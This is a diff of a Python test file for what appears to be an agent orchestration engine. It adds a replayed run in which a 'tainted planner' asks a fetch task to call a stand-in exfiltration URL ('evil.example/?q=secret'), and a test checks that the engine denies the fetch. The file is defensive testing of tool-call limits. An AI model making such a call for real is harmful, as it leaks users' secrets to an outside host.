@@ -6,6 +6,9 @@ import sys
 
 import pytest
 
+from engine.events import CallFinished, CallStarted, ModelInfo, RunStarted
+from engine.runtime.machine import fold
+
 EVIL = "https://evil.example/?q=secret"
 TOOLS = f"""
 def search(q):
@@ -145,6 +148,26 @@ def test_steps_of_a_plan_worker_are_looked_at_too(fetched):
     # What the file writes is nobody's choice.
     done, denials = fetched(plan, inner='"https://a.example/"')
     assert (done, denials) == ([["https://a.example/"]], [])
+
+
+def folded(load, bounds):
+    """A run in which a tainted planner asks for a page, as an engine with such bounds began it."""
+    program = load((WORKERS % ("", "item.url", "", "")).replace("WGET", "wget"), TOOLS).program
+    keys = "round 1 / decision 1", "round 1 / decision 1 / task s", "round 2 / decision 1"
+    values = decision(task("s", "search", q="x")), [], decision(task("f", "fetch", u=EVIL))
+    infos = {"planner": ModelInfo("memory/planner")}
+    began = RunStarted(
+        run="r", orchestrator="main", input={}, models=infos, program="p", bounds=bounds
+    )
+    events = [began]
+    for key, value in zip(keys, values, strict=True):
+        events += [CallStarted(key=key), CallFinished(key=key, value=value)]
+    return fold(program, events)
+
+
+def test_a_run_of_an_older_engine_is_folded_as_it_went(load):
+    assert list(folded(load, 1).calls) == ["round 2 / decision 1 / task f"]
+    assert folded(load, 2).loop.tasks["f"].failure.mode == "denied"
 
 
 def test_an_http_worker_is_free_among_no_hosts_or_one(load):
